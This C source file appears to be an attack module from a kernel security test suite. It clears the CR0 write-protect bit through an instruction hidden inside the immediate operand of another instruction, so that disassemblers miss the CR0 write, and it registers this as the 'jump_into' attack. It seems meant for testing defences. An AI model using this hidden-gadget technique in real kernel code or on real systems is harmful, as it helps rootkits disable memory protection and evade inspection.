/* SPDX-License-Identifier: MIT OR GPL-2.0-only */
/*
 * Clears CR0.WP with an instruction that no disassembler shows: it is the last four bytes of another one.
 */
#include "wp_target.h"

/* b8 0f 22 c0 c3: mov $0xc3c0220f, %eax; from its second byte: mov %rax, %cr0; ret */
void secpod_carrier(void);
asm(".pushsection .text\n"
    "secpod_carrier:\n\t"
    "mov $0xc3c0220f, %eax\n\t"
    "ret\n"
    ".popsection");

static void set_cr0(unsigned long value)
{
	asm volatile("call *%1" : "+a"(value) : "r"((u8 *)secpod_carrier + 1) : "memory", "cc");
}

static const struct attack jump_into = {"jump_into", "cr0", NULL, attempt, effect, undo};
ATTACK_MODULE(jump_into);
